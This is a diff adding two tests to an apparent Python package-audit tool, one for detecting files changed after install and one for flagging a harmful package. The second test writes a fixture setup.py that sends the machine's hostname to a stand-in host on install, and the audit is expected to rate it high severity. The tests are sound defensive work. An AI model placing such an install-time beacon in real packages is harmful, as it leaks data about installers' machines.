@@ -92,3 +92,33 @@ it('does not let an empty import take the place of what is there', () => {
     stderr: expect.stringMatching(/holds no environment/),
   })
 })
+
+it('tells files that were changed after they were installed, where it is asked to', () => {
+  const site = 'changed/lib/python3.12/site-packages'
+  write('changed/pyvenv.cfg', 'home = /nowhere/bin\n')
+  write(`${site}/six.py`, 'changed = True\n')
+  write(`${site}/six-1.0.dist-info/METADATA`, 'Name: six\nVersion: 1.0\n')
+  write(`${site}/six-1.0.dist-info/RECORD`, 'six.py,sha256=AAAA,1\n')
+  expect(sentinel('audit', 'changed').status).toBe(0)
+  const { status, stdout } = sentinel('audit', 'changed', '--files')
+  expect(status).toBe(1)
+  expect(stdout).toContain('six 1.0: six.py is changed')
+})
+
+it('judges one package by its own files', () => {
+  write(
+    'harmful/setup.py',
+    'import socket, urllib.request\nurllib.request.urlopen("http://h.invalid/?" + socket.gethostname())\n',
+  )
+  write('honest/good/__init__.py', 'def one():\n    return 1\n')
+  const harmful = sentinel('audit', '--archive', 'harmful', '--older', 'honest', '--json')
+  expect(harmful.status).toBe(1)
+  expect(JSON.parse(harmful.stdout)).toMatchObject({
+    severity: 'high',
+    signs: expect.arrayContaining([expect.objectContaining({ sign: 'tells-of-machine', file: 'setup.py' })]),
+    differences: expect.arrayContaining([
+      expect.objectContaining({ kind: 'new', does: 'http.request', role: 'install' }),
+    ]),
+  })
+  expect(sentinel('audit', '--archive', 'honest').status).toBe(0)
+})
